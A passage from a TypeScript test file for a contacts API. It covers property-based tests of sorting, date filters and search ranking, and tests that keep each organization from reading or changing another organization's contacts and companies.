            { tiesByName: field === "title" || field === "company" || field === "email" },
          );
          const input = {
            sort: { field, direction },
            filter: { combinator, conditions: conditions as NonNullable<RecordListInput["filter"]>["conditions"] },
            ...(zone === "UTC" ? {} : { timeZone: zone }),
          };
          const walked = await allPages(listOf(caller), input, limit);
          expect(ids(walked)).toEqual(ids(expected));
          const first = await caller.contacts.list({ ...input, limit });
          expect(first.total).toEqual({ count: expected.length, exact: true });
        },
      ),
      { numRuns: 40 },
    );
  }, 120_000);

  it("counts days from today as the model does, in either time zone, for any count", async () => {
    for (const offset of Object.values(zoneOffsets)) await clearOfMidnight(offset / HOUR);
    const { caller, org } = await ownerOfNewOrganization();
    const seeded = await seed(org.id);
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom("inLastDays", "moreThanDaysAgo"),
        fc.integer({ min: 1, max: 11 }),
        fc.constantFrom(...(Object.keys(zoneOffsets) as (keyof typeof zoneOffsets)[])),
        async (operator, days, zone) => {
          const condition = { field: "createdAt", operator, value: days } as const;
          const expected = sortedLikeAList(
            seeded.filter((c) => matches(c, condition, zone)),
            "createdAt",
            "desc",
          );
          const page = await caller.contacts.list({
            sort: { field: "createdAt", direction: "desc" },
            filter: { combinator: "and", conditions: [condition] },
            limit: 200,
            ...(zone === "UTC" ? {} : { timeZone: zone }),
          });
          expect(ids(page.items)).toEqual(ids(expected));
        },
      ),
      { numRuns: 30 },
    );
  }, 120_000);
});

describe("a search's best matches against a reference model (property-based)", () => {
  const first = ["Ann", "Anna", "Annika", "Bob", "Zoë", "Dan", "Hannah"];
  const last = ["Lee", "Annett", "Stone", "", "Bannon"];
  /** What FTS5 finds: every word of the text starts a word of the name, email or title (accents folded). */
  const words = (text: string) =>
    text
      .normalize("NFKD")
      .replace(/[\u0300-\u036f]/g, "")
      .toLowerCase()
      .split(/[^\p{L}\p{N}_]+/u)
      .filter(Boolean);
  type Made = { id: string; name: string; sortName: string; text: string[]; order: number };

  it("lists names that start with the text first (by name), then the other matches newest first, once each, for any page size", async () => {
    const { caller, org } = await ownerOfNewOrganization();
    const picks = fc.sample(
      fc.record({
        firstName: fc.constantFrom(...first),
        lastName: fc.constantFrom(...last),
        title: fc.option(fc.constantFrom("Annual sales", "Engineer", "Head of Annex"), { nil: null }),
        email: fc.option(fc.constantFrom("annie", "bo", "zed"), { nil: null }),
      }),
      { numRuns: 60, seed: 7 },
    );
    const made: Made[] = [];
    const created = await caller.contacts.import({
      rows: picks.map((p, i) => ({
        firstName: p.firstName,
        lastName: p.lastName,
        title: p.title,
        emails: p.email ? [`${p.email}${i}@mail.test`] : [],
      })),
      lineNumbers: picks.map((_, i) => i + 2),
    });
    expect(created.created).toBe(picks.length);
    // "Newest" is the order records were written in (seq); one import batch shares its createdAt.
    const seqs = await rows<{ id: string; seq: number }>(
      "SELECT id, seq FROM contacts WHERE organization_id = ?",
      org.id,
    );
    const seqOf = new Map(seqs.map((r) => [r.id, r.seq]));
    const listed = await allPages((input) => caller.contacts.list(input), {}, 200);
    for (const contact of listed) {
      const order = seqOf.get(contact.id)!;
      const name = `${contact.firstName} ${contact.lastName}`.trim();
      made.push({
        id: contact.id,
        name,
        sortName: name.toLowerCase(),
        text: words(`${name} ${contact.emails.join(" ")} ${contact.title ?? ""}`),
        order,
      });
    }
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom("ann", "an", "anna l", "bo", "zoe", "annex", "lee", "han", "ANNIKA", "engineer"),
        fc.integer({ min: 1, max: 25 }),
        async (text, limit) => {
          const prefix = text.trim().toLowerCase();
          const terms = words(text);
          const matching = made.filter((m) => terms.every((t) => m.text.some((w) => w.startsWith(t))));
          const byName = made
            .filter((m) => m.sortName.startsWith(prefix))
            .sort((a, b) => (a.sortName < b.sortName ? -1 : a.sortName > b.sortName ? 1 : a.id < b.id ? -1 : 1));
          const rest = matching.filter((m) => !m.sortName.startsWith(prefix)).sort((a, b) => b.order - a.order);
          const walked = await allPages((input) => caller.contacts.list(input), { search: text }, limit);
          expect(ids(walked), `${text} by ${limit}`).toEqual([...byName, ...rest].map((m) => m.id));
          const firstPage = await caller.contacts.list({ search: text, limit });
          expect(firstPage.total).toEqual({ count: matching.length, exact: true });
        },
      ),
      { numRuns: 30 },
    );
  }, 60_000);
});

describe("contacts across organizations", () => {
  async function twoOrganizations() {
    const a = await ownerOfNewOrganization("Org A");
    const b = await ownerOfNewOrganization("Org B");
    const bMember = await seedMember(b.org.id, "member");
    const live = await a.caller.contacts.create({ firstName: "Ann", emails: ["ann@a.com"] });
    const trashed = await a.caller.contacts.create({ firstName: "Tom", emails: ["tom@a.com"] });
    await a.caller.contacts.delete({ ids: [trashed.id] });
    const acme = await a.caller.companies.create({ name: "Acme", domain: "acme.com" });
    return { a, b: bMember, bOwner: b, live, trashed, acme };
  }
  const notFound = "That contact does not exist or was deleted.";

  it("is NOT_FOUND for get, update, delete and restore of another organization's contact, which stays as it was", async () => {
    const { a, b, live, trashed } = await twoOrganizations();
    await expectTRPCError(b.caller.contacts.get({ id: live.id }), "NOT_FOUND", notFound);
    await expectTRPCError(
      b.caller.contacts.update({ id: live.id, version: 1, patch: { firstName: "Hacked" } }),
      "NOT_FOUND",
      notFound,
    );
    await expectTRPCError(b.caller.contacts.delete({ ids: [live.id] }), "NOT_FOUND", notFound);
    await expectTRPCError(b.caller.contacts.restore({ id: trashed.id }), "NOT_FOUND", notFound);
    await expectTRPCError(b.caller.contacts.restoreMany({ ids: [trashed.id] }), "NOT_FOUND", notFound);
    await expectTRPCError(b.caller.contacts.get({ id: trashed.id }), "NOT_FOUND", notFound);
    expect((await a.caller.contacts.get({ id: live.id })).contact).toEqual(live);
    expect(ids((await a.caller.contacts.list({ trash: true })).items)).toEqual([trashed.id]);
    expect((await a.caller.contacts.list({})).total).toEqual({ count: 1, exact: true });
  });

  it("deletes only the caller's own contacts from a mixed list of ids", async () => {
    const { a, b, live } = await twoOrganizations();
    const own = await b.caller.contacts.create({ firstName: "Bea" });
    expect(await b.caller.contacts.delete({ ids: [live.id, own.id] })).toEqual({ deleted: 1 });
    expect((await a.caller.contacts.get({ id: live.id })).contact.deletedAt).toBeNull();
  });

  it("restores only the caller's own contacts from a mixed list of ids", async () => {
    const { a, b, trashed } = await twoOrganizations();
    const own = await b.caller.contacts.create({ firstName: "Bea" });
    await b.caller.contacts.delete({ ids: [own.id] });
    expect(await b.caller.contacts.restoreMany({ ids: [trashed.id, own.id] })).toEqual({ restored: 1, refused: [] });
    expect(ids((await a.caller.contacts.list({ trash: true })).items)).toEqual([trashed.id]);
    expect(ids((await b.caller.contacts.list({})).items)).toEqual([own.id]);
  });

  it("never lists another organization's contacts, live, searched, filtered or in the trash", async () => {
    const { b } = await twoOrganizations();
    expect((await b.caller.contacts.list({})).items).toEqual([]);
    expect((await b.caller.contacts.list({ search: "ann" })).items).toEqual([]);
    expect((await b.caller.contacts.list({ trash: true })).items).toEqual([]);
    expect(
      (
        await b.caller.contacts.list({
          filter: { combinator: "or", conditions: [{ field: "firstName", operator: "notEmpty" }] },
        })
      ).items,
    ).toEqual([]);
    expect((await b.caller.contacts.list({})).total).toEqual({ count: 0, exact: true });
  });

  it("is NOT_FOUND to create or update a contact with another organization's company", async () => {
    const { b, acme } = await twoOrganizations();
    await expectTRPCError(
      b.caller.contacts.create({ firstName: "Bea", companyId: acme.id }),
      "NOT_FOUND",
      "That company does not exist or was deleted.",
    );
    const bea = await b.caller.contacts.create({ firstName: "Bea" });
    await expectTRPCError(
      b.caller.contacts.update({ id: bea.id, version: 1, patch: { companyId: acme.id } }),
      "NOT_FOUND",
      "That company does not exist or was deleted.",
    );
  });
});
